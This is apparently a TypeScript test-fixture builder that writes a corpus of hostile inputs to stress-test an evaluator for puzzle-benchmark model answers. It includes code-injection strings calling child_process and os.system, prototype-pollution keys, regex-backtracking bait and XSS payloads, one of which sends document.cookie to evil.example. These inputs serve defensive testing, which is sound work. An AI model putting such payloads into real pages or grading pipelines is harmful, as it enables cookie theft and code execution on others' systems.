    hostileRow(10, 'nested-initial-state', { initial_state: `${'['.repeat(N)}1${']'.repeat(N)}`, prediction: '\\boxed{[[1]]}' }),
    hostileRow(11, 'nested-dict-initial-state', { initial_state: `${"{'a': ".repeat(N)}1${'}'.repeat(N)}`, prediction: '\\boxed{1}' }),
    hostileRow(12, 'nested-json-field', { deep: rawJson(`${'['.repeat(N)}${']'.repeat(N)}`), prediction: '\\boxed{1}' }),
  ];
});

/** Answers built to make a backtracking regular expression (or a naive parser) take exponential or quadratic time. */
function baitAnswers(): string[] {
  const n = 50_000;
  return [
    `${'a'.repeat(n)}!`,
    `${' '.repeat(n)}x`,
    `${'1,'.repeat(n)}x`,
    `${'1 '.repeat(n)}x`,
    `${'(1, '.repeat(n)}`,
    `${'[1, '.repeat(n)}`,
    `${'(1,1)-'.repeat(n)}`,
    `${'up '.repeat(n)}sideways`,
    `${'A'.repeat(n)} -> `,
    `${'1|'.repeat(n)}\n`.repeat(3),
    `${'\\\\'.repeat(n)}boxed`,
    `${'Answer: '.repeat(n / 4)}`,
    `${'\\boxed{\\text{'.repeat(n / 8)}`,
    `${'0.'.repeat(n)}5`,
    `${'-'.repeat(n)}>`,
    `{${'"a": 1, '.repeat(n / 4)}`,
    `${'\t\n '.repeat(n)}.`,
    `${'x'.repeat(n)}@(`,
    `${'1+'.repeat(n)}=24`,
    `${'((((((((((((((((((((((((((((((((((((((((a'.repeat(1)}${'a'.repeat(n)}`,
  ];
}

const backtracking = hostileRows('regex-backtracking', 'answers built to make parsers backtrack (every task gets several)', () => {
  const bait = baitAnswers();
  const out: Row[] = [];
  fixtures().instances.forEach((inst, i) => {
    if (!inst.id.endsWith('-1')) return;
    for (const k of [i % bait.length, (i + 7) % bait.length]) {
      out.push(instanceRow(inst, { id: `bait-${inst.category}-${k}`, prediction: `\\boxed{${bait[k]!}}` }));
    }
    out.push(instanceRow(inst, { id: `bait-${inst.category}-raw`, prediction: bait[(i + 3) % bait.length]! }));
  });
  return out;
});

const codeLike = hostileRows('code-like', 'answers and keys that look like code (require child_process, constructor, __proto__)', (caseDir) => {
  const marker = path.join(caseDir, MARKER_NAME);
  const js = `require('child_process').execSync('touch ${marker}')`;
  const py = `__import__('os').system('touch ${marker}')`;
  const rows: Row[] = [
    hostileRow(60, 'code-24points-js', { category: '24Points', metric_info: { score_function: '24points_evaluator' }, prediction: `\\boxed{${js}}` }),
    hostileRow(61, 'code-24points-iife', { category: '24Points', metric_info: { score_function: '24points_evaluator' }, prediction: `\\boxed{(function(){${js}; return 24})()}` }),
    hostileRow(22, 'code-cryptomath-py', { prediction: `\\boxed{{"A": ${py}}}` }),
    hostileRow(23, 'code-cryptomath-proto', { prediction: '\\boxed{{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "A": 1}}' }),
    hostileRow(4, 'code-topo-py', { prediction: `\\boxed{[${py}, 1, 2]}` }),
    hostileRow(40, 'code-calcudoku-eval', { prediction: `\\boxed{[[${js}]]}` }),
    hostileRow(0, 'code-plain-js', { prediction: `Answer: ${js}` }),
    hostileRow(1, 'code-template', { prediction: '\\boxed{${process.exit(1)}}' }),
    hostileRow(2, 'constructor', { category: 'constructor', metric_info: null, prediction: '\\boxed{constructor}' }),
    hostileRow(3, 'code-category-proto', { category: '__proto__', metric_info: null, prediction: '\\boxed{__proto__}' }),
    hostileRow(5, 'code-category-tostring', { category: 'toString', metric_info: null, prediction: '\\boxed{toString}' }),
    hostileRow(6, 'code-score-fn-proto', { metric_info: { score_function: '__proto__' }, prediction: '\\boxed{1}' }),
    hostileRow(7, 'code-score-fn-constructor', { metric_info: { score_function: 'constructor' }, prediction: '\\boxed{1}' }),
    hostileRow(8, 'code-score-fn-hasown', { metric_info: "{'score_function': 'hasOwnProperty', '__class__': __import__('os')}", prediction: '\\boxed{1}' }),
    hostileRow(9, 'code-initial-state-py', { initial_state: `{'numbers': ${py}}`, prediction: '\\boxed{1}' }),
  ];
  // Keys that are special in JavaScript objects, at the top level of the row (JSON.parse makes them own keys).
  const proto = JSON.parse(`{"id": "code-row-proto-key", "__proto__": {"polluted": true, "category": "maze"}, "constructor": {"prototype": {"polluted": true}}, "toString": "not a function", "hasOwnProperty": 1, "valueOf": null, "category": "${fixtures().instances[10]!.category}", "prediction": "\\\\boxed{1}"}`) as Row;
  rows.push(proto);
  return rows;
});

const xssTrace = hostileRows('xss-trace', 'trace text with <script>, <img onerror>, javascript: links and layout-breaking CSS', () => {
  const payloads = [
    '<script>document.body.innerHTML="pwned";fetch("https://evil.example/x")</script>',
    '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
    '[click me](javascript:alert(1)) <a href="javascript:alert(2)">link</a> <a href="https://evil.example">remote</a>',
    '<style>body{display:none!important} *{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647}</style>',
    '<div style="position:fixed;inset:0;background:red;font-size:500px">X</div>',
    '</textarea></pre></code><iframe src="https://evil.example"></iframe><svg onload=alert(1)>',
    '<!-- unterminated comment <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example">',
    '\u202eRTL override\u202c zero\u200bwidth \u0000 NUL and a lone surrogate \ud800 here',
    `${'W'.repeat(100_000)} (one 100k-character word)`,
    '${alert(1)} {{constructor.constructor("alert(1)")()}} <%= 7*7 %>',
  ];
  return payloads.map((p, i) =>
    hostileRow(i * 5 + 1, `xss-${i}`, {
      prediction: `<think>Step one.\n\n${p}\n\nWait, let me check. ${p}</think>\n\\boxed{${p}}`,
      question: `Solve this ${p}`,
      ...(i === 0 ? { id: '<script>alert("id")</script>', category: '<img src=x onerror=alert(1)>' } : {}),
    }),
  );
});

const unknownTask: Builder = (dir) => {
  const kind = 'unknown-task';
  const { caseDir, file } = casePath(dir, kind, 'jsonl');
  const good = goodRows(3);
  const weird: Array<[string, Row]> = [
    ['unknown-task-name', { category: 'not_a_real_task', metric_info: null }],
    ['unknown-task-case', { category: 'MAZE', metric_info: null }],
    ['unknown-task-space', { category: 'maze ', metric_info: null }],
    ['unknown-score-fn', { category: 'not_a_real_task', metric_info: { score_function: 'evil_evaluator' } }],
    ['no-task-at-all', { category: null, metric_info: null }],
  ];
  const rows = weird.map(([id, o], i) => hostileRow(i + 40, id, { prediction: '\\boxed{1}', ...o }));
  copyImages(caseDir, [...good, ...rows]);
  writeJsonl(file, [good[0]!, ...rows.slice(0, 2), good[1]!, ...rows.slice(2), good[2]!]);
  const line = (id: string): number => [good[0]!, ...rows.slice(0, 2), good[1]!, ...rows.slice(2), good[2]!].findIndex((r) => r['id'] === id) + 1;
  return {
    kind, title: 'unknown task names and score functions', file, format: 'jsonl', slow: false,
    bad: weird.map(([id]) => ({ id, line: line(id), message: /no verifier|unknown score function|names no task/ })),
    good: ids(good),
  };
};

// ---------------------------------------------------------------- 1000 x 1000 boards

const N = 1000;
const range = (n: number): number[] => Array.from({ length: n }, (_, i) => i);
/** A 1000 x 1000 Latin square as a list literal. */
function latin(): string {
  return `[${range(N).map((r) => `[${range(N).map((c) => ((r + c) % N) + 1).join(', ')}]`).join(', ')}]`;
}
function gridOf(cell: (r: number, c: number) => string, rowSep = ', ', open = '[', close = ']'): string {
  return `${open}${range(N).map((r) => `${open}${range(N).map((c) => cell(r, c)).join(', ')}${close}`).join(rowSep)}${close}`;
}
function lines(cell: (r: number, c: number) => string, sep: string, wrap = ''): string {
  return range(N).map((r) => `${wrap}${range(N).map((c) => cell(r, c)).join(sep)}${wrap}`).join('\n');
}
const coords = (k: number): string => range(k).map((i) => `(${i % N}, ${(i * 7) % N})`).join(', ');
const moves = (k: number, m = ['right', 'down']): string => range(k).map((i) => m[i % m.length]).join(' ');

/** Per grid task: the initial_state and the answer of a 1000 x 1000 board, in the task's own formats. */
const BOARDS: Record<string, () => { initial_state: unknown; answer: string }> = {
  sudoku: () => ({ initial_state: lines((r, c) => ((r + c) % 3 === 0 ? String(((r + c) % N) + 1) : '.'), ' '), answer: range(N).map((r) => range(N).map((c) => ((r + c) % N) + 1).join(' ')).join(' ') }),
  futoshiki: () => ({ initial_state: `{"grid": ${gridOf(() => '0')}, "inequalities": [{"cell1": [0, 0], "cell2": [0, 1], "symbol": "<"}], "size": ${N}}`, answer: latin() }),
  Skyscrapers: () => ({ initial_state: JSON.stringify({ n: N, top: range(N).map(() => 1), bottom: range(N).map(() => 2), left: range(N).map(() => 1), right: range(N).map(() => 2) }), answer: latin() }),
  Calcudoku: () => ({ initial_state: `{"size": ${N}, "regions": [${range(N).map((r) => `{"cells": [${range(N).map((c) => `[${r + 1}, ${c + 1}]`).join(', ')}], "operator": "+", "target": ${(N * (N + 1)) / 2}}`).join(', ')}]}`, answer: latin() }),
  Kukurasu: () => ({ initial_state: JSON.stringify({ row_sums: range(N).map(() => 3), col_sums: range(N).map(() => 3), size: N }), answer: gridOf((r, c) => ((r + c) % 2 ? '1' : '0')) }),
  kakuro: () => ({ initial_state: gridOf((r, c) => (r === 0 || c === 0 ? '{"type": "black", "right": 45, "down": 45}' : '{"type": "white"}')), answer: range(2000).map((i) => `(${1 + (i % (N - 1))},${1 + ((i * 3) % (N - 1))}):${1 + (i % 9)}`).join(' ') }),
  binairo: () => ({ initial_state: gridOf((r, c) => ((r * 7 + c) % 5 === 0 ? String((r + c) % 2) : 'null')), answer: lines((r, c) => String((r + c) % 2), ' ') }),
  hitori: () => ({ initial_state: gridOf((r, c) => String(((r + c) % N) + 1)), answer: `{${coords(5000)}}` }),
  nonogram: () => ({ initial_state: JSON.stringify([range(N).map(() => [N]), range(N).map(() => [N])]), answer: lines(() => 'X', '') }),
  aquarium: () => ({ initial_state: `{"regions": ${gridOf((r) => String(r))}, "row_clues": [${range(N).map(() => N).join(', ')}], "col_clues": [${range(N).map(() => N).join(', ')}], "grid_size": [${N}, ${N}]}`, answer: `[${coords(20000)}]` }),
  campsite: () => ({ initial_state: `{"input_grid": ${gridOf((r, c) => ((r + c) % 9 === 0 ? '"T"' : '"X"'))}, "row_constraints": [${range(N).map(() => 1).join(', ')}], "col_constraints": [${range(N).map(() => 1).join(', ')}]}`, answer: `[${range(5000).map((i) => `[${1 + (i % N)}, ${1 + ((i * 7) % N)}]`).join(', ')}]` }),
  minesweeper: () => ({ initial_state: lines((r, c) => ((r + c) % 4 === 0 ? '1' : ' '), '|', '|'), answer: range(5000).map((i) => `(${i % N}, ${(i * 3) % N})`).join(',') }),
  maze: () => {
    const rows: string[] = [];
    const wall = `+${'-+'.repeat(N)}`;
    rows.push(wall);
    for (let r = 0; r < N; r++) {
      rows.push(`|${range(N).map((c) => (r === 0 && c === 0 ? 'S' : r === N - 1 && c === N - 1 ? 'E' : '0')).join(' ')}|`);
      rows.push(r === N - 1 ? wall : `+${' +'.repeat(N)}`);
    }
    return { initial_state: rows.join('\n'), answer: `${moves(N - 1, ['right'])} ${moves(N - 1, ['down'])}` };
  },
  sokoban: () => ({ initial_state: range(N).map((r) => range(N).map((c) => (r === 0 || c === 0 || r === N - 1 || c === N - 1 ? '#' : r === 1 && c === 1 ? '@' : r === 2 && c === 2 ? '$' : r === N - 2 && c === N - 2 ? '.' : ' ')).join('')).join('\n'), answer: moves(4000, ['down', 'right', 'up', 'left']) }),
  slidingpuzzle: () => ({ initial_state: gridOf((r, c) => String((r * N + c + 1) % (N * N))), answer: moves(4000, ['left', 'up', 'right', 'down']) }),
  numbrix: () => ({ initial_state: `\n${lines((r, c) => ((r + c) % 5 === 0 ? String(r * N + c + 1) : ' '), '|', '|')}`, answer: `\n${lines((r, c) => String(r % 2 === 0 ? r * N + c + 1 : r * N + (N - c)), '|', '|')}` }),
  eulero: () => ({ initial_state: lines((r, c) => ((r + c) % 3 === 0 ? `A${((r + c) % N) + 1}` : ' '), '|'), answer: lines((r, c) => `A${((r + c) % N) + 1}`, '|') }),
  tapa: () => ({ initial_state: lines((r, c) => ((r * 13 + c) % 17 === 0 ? '3' : '.'), ''), answer: range(20000).map((i) => `(${i % N},${(i * 7) % N})`).join(', ') }),
  shingoki: () => ({ initial_state: JSON.stringify(range(N).map((r) => range(N).map((c) => ((r + c) % 11 === 0 ? 'W2' : '.')))), answer: range(N - 1).map((c) => `(0,${c})-(0,${c + 1})`).join(' ') }),
  snake: () => ({ initial_state: JSON.stringify(range(N).map((r) => range(N).map((c) => (r === 0 && c === 0 ? 'S' : r === N - 1 && c === N - 1 ? 'E' : null)))), answer: [...range(N).map((c) => `(0,${c})`), ...range(N - 1).map((r) => `(${r + 1},${N - 1})`)].join(' ') }),
  wordsearch: () => ({ initial_state: JSON.stringify(range(N).map((r) => range(N).map((c) => String.fromCharCode(65 + ((r * 7 + c) % 26))))), answer: range(200).map((i) => `ABCDEFG E @ (${i}, 0)`).join('\n') }),
  bridges: () => ({ initial_state: JSON.stringify({ islands: range(N).flatMap((r) => [{ x: 0, y: r, num: 1 }, { x: N - 1, y: r, num: 1 }]) }), answer: range(N).map((r) => `(0,${r})-(${N - 1},${r}):1`).join('\n') }),
  nibbles: () => ({ initial_state: `Grid: ${N}x${N}\nSnake: (0,1) (0,0)\nDirection: right\nApples: ${range(N).map((i) => `(${i},${(i * 7) % N})`).join(' ')}\nGoal: Eat ${N} apples`, answer: moves(4000, ['down', 'right']) }),
};

/** The grid tasks that get a 1000 x 1000 board. */
export const GRID_TASKS: readonly string[] = Object.keys(BOARDS);

function boardCase(task: string): Builder {
  return (dir) => {
    const kind = `board-1000-${task.toLowerCase()}`;
    const { caseDir, file } = casePath(dir, kind, 'jsonl');
    const inst = fixtures().instances.find((i) => i.category === task);
    if (!inst) throw new Error(`no fixture instance of ${task}`);
    const good = goodRows(2);
    const { initial_state, answer } = BOARDS[task]!();
    const id = `board-1000-${task}`;
    const boxed = answer.includes('\n') ? `\`\`\`\n${answer}\n\`\`\`` : `\\boxed{${answer}}`;
    const stateOnly = instanceRow(inst, { id: `${id}-state-only`, initial_state, prediction: `\\boxed{${inst.answer}}` });
    const answerOnly = instanceRow(inst, { id: `${id}-answer-only`, prediction: `<think>A big one.</think>\nFinal answer:\n${boxed}` });
    const rows = [good[0]!, stateOnly, answerOnly, good[1]!];
    copyImages(caseDir, rows);
    writeJsonl(file, rows);
    return { kind, title: `a 1000 x 1000 ${task} board (initial_state and/or answer)`, file, format: 'jsonl', slow: false, bad: [], good: ids(good), hostileIds: [`${id}-state-only`, `${id}-answer-only`] };
  };
}

// ---------------------------------------------------------------- the corpus

/** Every kind, in corpus order: its slug, whether it is slow, and its builder. */
const BUILDERS: Array<{ kind: string; slow: boolean; builder: Builder }> = [
  { kind: 'jsonl-malformed-start', slow: false, builder: malformedAt('start') },
  { kind: 'jsonl-malformed-middle', slow: false, builder: malformedAt('middle') },
  { kind: 'jsonl-malformed-end', slow: false, builder: malformedAt('end') },
  { kind: 'jsonl-truncated-last-line', slow: false, builder: truncatedLast },
  { kind: 'jsonl-wrong-types', slow: false, builder: wrongTypes },
  { kind: 'jsonl-not-objects', slow: false, builder: notObjects },
  { kind: 'jsonl-invalid-utf8', slow: false, builder: invalidUtf8 },
  { kind: 'jsonl-bom', slow: false, builder: bom },
  { kind: 'jsonl-crlf', slow: false, builder: crlf },
  { kind: 'jsonl-line-50mb', slow: false, builder: line50mb },
  { kind: 'jsonl-million-lines', slow: false, builder: millionLines },
  { kind: 'jsonl-empty', slow: false, builder: emptyFile },
  { kind: 'jsonl-blank-lines', slow: false, builder: blankOnly },
  { kind: 'json-array-20mb', slow: false, builder: jsonArray(20, false) },
  { kind: 'json-array-200mb', slow: true, builder: jsonArray(200, true) },
  { kind: 'json-malformed-middle', slow: false, builder: jsonMalformedMiddle },
  { kind: 'json-truncated', slow: false, builder: jsonTruncated },
  { kind: 'json-bom-crlf', slow: false, builder: jsonBom },
  { kind: 'parquet-missing-column', slow: false, builder: parquetMissingColumn },
  { kind: 'parquet-corrupt-page', slow: false, builder: parquetCorruptPage },
  { kind: 'tsv-unbalanced-quote-middle', slow: false, builder: tsvUnbalancedMiddle },
  { kind: 'tsv-unbalanced-quote-end', slow: false, builder: tsvUnbalancedEnd },
  { kind: 'csv-bom-crlf-quotes', slow: false, builder: csvBomCrlf },
  { kind: 'image-absolute', slow: false, builder: imageAbsolute },
  { kind: 'image-escape', slow: false, builder: imageEscape },
  { kind: 'image-folder', slow: false, builder: imageFolder },
  { kind: 'image-not-image', slow: false, builder: imageNotImage },
  { kind: 'image-huge-png', slow: false, builder: imageHuge },
  { kind: 'response-5mb', slow: false, builder: response5mb },
  { kind: 'boxed-unclosed', slow: false, builder: boxedUnclosed },
  { kind: 'nested-braces', slow: false, builder: nestedBraces },
  { kind: 'regex-backtracking', slow: false, builder: backtracking },
  { kind: 'code-like', slow: false, builder: codeLike },
  { kind: 'xss-trace', slow: false, builder: xssTrace },
  { kind: 'unknown-task', slow: false, builder: unknownTask },
  ...GRID_TASKS.map((t) => ({ kind: `board-1000-${t.toLowerCase()}`, slow: false, builder: boardCase(t) })),
];

/** Every kind's slug (slow ones included), in corpus order. */
export const CORPUS_KINDS: readonly string[] = BUILDERS.map((b) => b.kind);

export interface CorpusOptions {
  /** Also the slow kinds (HELIX_HOSTILE_FULL=1). */
  full?: boolean;
  /** Only the kinds this accepts (the others are not written; each kind's content is the same either way). */
  only?: (kind: string) => boolean;
}

/** Whether the slow variants are wanted (the environment variable every #8 suite uses). */
export function fullCorpusRequested(): boolean {
  return process.env['HELIX_HOSTILE_FULL'] === '1';
}

/** Write the corpus under `dir` (created if needed) and return its cases, in a stable order. */
export function buildCorpus(dir: string, opts: CorpusOptions = {}): HostileCase[] {
  fs.mkdirSync(dir, { recursive: true });
  const out: HostileCase[] = [];
  BUILDERS.forEach(({ kind, slow, builder }, i) => {
    if (slow && !opts.full) return;
    if (opts.only && !opts.only(kind)) return;
    // Each kind draws its good rows from its own place in the fixture, whatever else is built.
    cursor = i * 3;
    const c = builder(dir);
    if (c.kind !== kind) throw new Error(`corpus builder of ${kind} made ${c.kind}`);
    out.push(c);
  });
  return out;
}
